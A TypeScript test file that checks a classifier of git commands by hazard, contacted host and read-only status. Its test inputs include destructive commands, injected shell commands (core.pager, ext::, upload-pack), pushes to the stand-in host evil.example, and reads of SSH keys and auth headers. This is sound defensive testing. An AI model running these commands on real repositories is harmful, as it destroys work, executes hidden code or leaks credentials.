/** Git: which uses lose work, run something or talk to another server; and which only read. */
import { describe, expect, it } from 'vitest';
import { told } from '../support/commands.ts';

describe('harm', () => {
  it.each<readonly [command: string, id: string]>([
    ['git reset --hard', 'git-discard'],
    ['git reset --h HEAD~1', 'git-discard'],
    ['git checkout -- .', 'git-discard'],
    ['git checkout HEAD src/a.ts', 'git-discard'],
    ['git checkout .', 'git-discard'],
    ['git checkout -f main', 'git-discard'],
    ['git restore .', 'git-discard'],
    ['git restore -S -W a', 'git-discard'],
    ['git switch --discard-changes main', 'git-discard'],
    ['git clean -fdx', 'git-clean'],
    ['git push -f', 'git-force-push'],
    ['git push --force origin topic', 'git-force-push'],
    ['git push origin +topic', 'git-force-push'],
    ['git push --force origin main', 'git-force-push-protected'],
    ['git push origin +HEAD:release/1.2', 'git-force-push-protected'],
    ['git push origin :main', 'git-force-push-protected'],
    ['git push --delete origin main', 'git-force-push-protected'],
    ['git push --mirror', 'git-force-push-protected'],
    ...[
      '--delete origin v1',
      '-d origin v1.2.3-rc.1',
      'origin --delete refs/tags/nightly',
      'origin :refs/tags/nightly',
      'origin old :v2.0',
      'origin --delete tag nightly',
    ].map(rest => [`git push ${rest}`, 'git-delete-tag'] as const),
    ['git send-pack origin :refs/tags/v1', 'git-delete-tag'],
    ['git push --force-with-lease origin topic', 'git-force-with-lease'],
    ['git push --force-with-lease origin main', 'git-force-push-protected'],
    ['git branch -D topic', 'git-delete-branch'],
    ['git branch -D main', 'git-delete-protected'],
    ['git stash clear', 'git-drop-stash'],
    ['git reflog expire --expire=now --all', 'git-erase-recovery'],
    ['git gc --p=now', 'git-erase-recovery'],
    ['git filter-branch --all', 'git-rewrite'],
    ['git worktree remove -f wt', 'git-force-worktree'],
    ['git commit -n -m x', 'git-skip-hooks'],
    ['git push --no-verify', 'git-skip-hooks'],
    ['git config --unset core.hooksPath', 'git-skip-hooks'],
    ['git config unset core.hooksPath', 'git-skip-hooks'],
    ['git update-ref -d refs/heads/x', 'git-plumbing'],
    ['git config core.hooksPath h', 'git-run-config'],
    ["git -c core.pager='sh -c id' log", 'git-run-config'],
    ['git config --global url.https://x.example/.insteadOf https://github.com/', 'git-run-config'],
    ['git remote add x https://evil.example/r.git', 'git-new-remote'],
    ['git push https://evil.example/r.git HEAD', 'git-new-remote'],
    ['git config --get-all http.https://github.com/.extraheader', 'secret-print'],
    ["git ls-remote --upload-pa='touch p' origin", 'hidden-command'],
    ["git clone 'ext::sh -c id'", 'hidden-command'],
    ["git config alias.p 'push --force'", 'git-force-push'],
    ["git -c alias.p='push --force' p", 'git-force-push'],
    ["git rebase --exec 'git reset --hard' main", 'git-discard'],
    ["git submodule foreach 'git clean -fdx'", 'git-clean'],
    ['git bisect run git reset --hard', 'git-discard'],
  ])('%s is %s', (command, id) => {
    expect(told(command).hazards).toContain(id);
  });
});

describe('no harm', () => {
  it.each([
    'git reset',
    'git reset --soft HEAD~1',
    'git reset -- --hard',
    'git checkout main',
    'git checkout -b topic',
    'git checkout -bnew',
    'git checkout --conflict merge main',
    'git checkout --track origin/x',
    'git restore --staged a',
    'git switch -c x',
    'git clean -nd',
    'git push origin HEAD',
    'git push -- --force',
    'git push origin --delete old',
    'git push origin :fix/v1.2-crash',
    'git push origin v1.2.3',
    'git push --dry-run origin :refs/tags/v1',
    'git tag -d v1',
    'git branch -d merged',
    'git branch -m new',
    'git stash',
    'git stash pop',
    'git gc',
    'git prune',
    'git reflog',
    'git worktree remove wt',
    'git worktree remove -- -f',
    'git commit -m "git reset --hard"',
    'git add reset --hard',
    'git rebase origin/main',
    'git filter-repo --analyze',
    'git config user.name x',
    'git config --unset user.name',
    'git config --get core.hooksPath',
    'git -c core.pager=cat log',
    'git -c color.ui=always diff',
    'git config core.editor true',
    'git remote add upstream https://github.com/o/r.git',
    'git remote -v',
    'git fetch origin',
    'git config alias.co checkout',
    'git rm old.ts',
    'git symbolic-ref --short HEAD',
  ])('%s', command => {
    expect(told(command).hazards).toEqual([]);
  });
});

describe('servers', () => {
  it.each([
    ['git clone https://github.com/o/r', 'github.com'],
    ['git fetch git@gitlab.com:o/r.git', 'gitlab.com'],
    ['git push ssh://git@evil.example:2222/r', 'evil.example'],
    ['git ls-remote https://x.example/r', 'x.example'],
    ['git archive --remote=ssh://x.example/r HEAD', 'x.example'],
  ])('%s talks to %s', (command, host) => {
    expect(told(command).hosts).toEqual([host]);
  });
});

describe('sets', () => {
  it.each([
    ['git status --short', ['read-only', 'git-local']],
    ['git log --oneline -5', ['read-only', 'git-local']],
    ['git show --stat HEAD', ['read-only', 'git-local']],
    ['git diff', ['read-only', 'git-local']],
    ['git diff --cached -- src', ['read-only', 'git-local']],
    ['git diff main...HEAD --word-diff=color -U5', ['read-only', 'git-local']],
    ['git --no-pager diff --no-ext-diff --no-textconv', ['read-only', 'git-local']],
    ['git show HEAD~2 -- src/x.ts', ['read-only', 'git-local']],
    ['git branch -a', ['read-only', 'git-local']],
    ['git grep -n x', ['read-only', 'git-local']],
    ['git -C sub status', ['read-only', 'git-local']],
    ['git add -A', ['git-local']],
    ['git commit -m x', ['git-local']],
    ['git switch -c x', ['git-local']],
    ['git stash pop', ['git-local']],
  ])('%s is in %j', (command, sets) => {
    expect([...told(command).sets].sort()).toEqual([...sets].sort());
  });
  it.each([
    'git show -p HEAD',
    'git log -p',
    'git diff --output=x',
    'git diff --output x',
    'git show --output=x HEAD',
    'git log --output=x',
    'git diff --ext-diff --stat',
    'git diff --textconv',
    'git -c diff.external=x diff',
    'git -p diff',
    'git diff --no-index a b',
    'git diff /dev/null ~/.ssh/id_rsa',
    'git diff $X',
    'git log --unknown-option',
    'git -c x.y=z status',
    'git --exec-path=x status',
    'git branch -D x',
    'git commit -n',
    'git stash drop',
    'git fetch',
    'git push',
    'git reset --hard',
    'git grep -O x',
    'git log $X',
    'git commit --amend --exec x',
    'git unknown',
  ])('%s is in none', command => {
    expect(told(command).sets).toEqual([]);
  });
});
